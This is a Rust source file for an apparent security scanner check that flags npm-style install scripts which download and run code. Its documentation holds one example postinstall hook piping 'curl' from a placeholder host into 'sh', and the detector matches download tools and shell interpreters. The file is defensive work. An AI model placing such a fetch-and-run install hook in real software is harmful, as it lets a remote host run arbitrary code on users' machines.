//! The application's own install script downloads something and runs it.
use super::prelude::*;

check! {
    /// # Install script that downloads and runs
    ///
    /// The application's own install script downloads something and runs it.
    ///
    /// ## Why it matters
    ///
    /// Nothing checks what is downloaded: whoever controls the host decides what runs on every machine
    /// that installs the application, the one that deploys included.
    ///
    /// ## What to do
    ///
    /// Make it a dependency with a version and a checksum, or keep the program in the repository.
    ///
    /// ```files fires
    /// # file: package.json
    /// {"scripts": {"postinstall": "curl -s https://get.example.org/tool.sh | sh"}}
    /// ```
    /// ```files quiet
    /// # file: package.json
    /// {"scripts": {"postinstall": "husky install"}}
    /// ```
    INSTALL_SCRIPT_DOWNLOADS = "install-script-downloads" {
        since: "0.1.0",
        severity: High,
        confidence: Likely,
        controls: &["CWE-494", "CWE-829", "OWASP-SLS:S9"],
        also_known_as: &[],
        run: install_script_downloads,
    }
}

fn install_script_downloads(app: &App, findings: &mut Findings) {
    for (manifest, setting) in settings(app, &[SettingKind::InstallScript]) {
        let downloads =
            ["curl ", "wget ", "iwr ", "Invoke-WebRequest"].iter().any(|word| setting.text.contains(word));
        let after = setting.text.split_once('|').map_or("", |(_, after)| after);
        let program = after.trim_start().trim_start_matches("sudo ").split(' ').next().unwrap_or_default();
        let runs = ["sh", "bash", "zsh", "node", "python", "python3", "iex"].contains(&program)
            || setting.text.contains("$(curl")
            || setting.text.contains("<(curl");
        if downloads && runs {
            let message = "an install script runs what it downloads".to_owned();
            findings.push(INSTALL_SCRIPT_DOWNLOADS.in_file(manifest.path.clone(), setting.at, message));
        }
    }
}
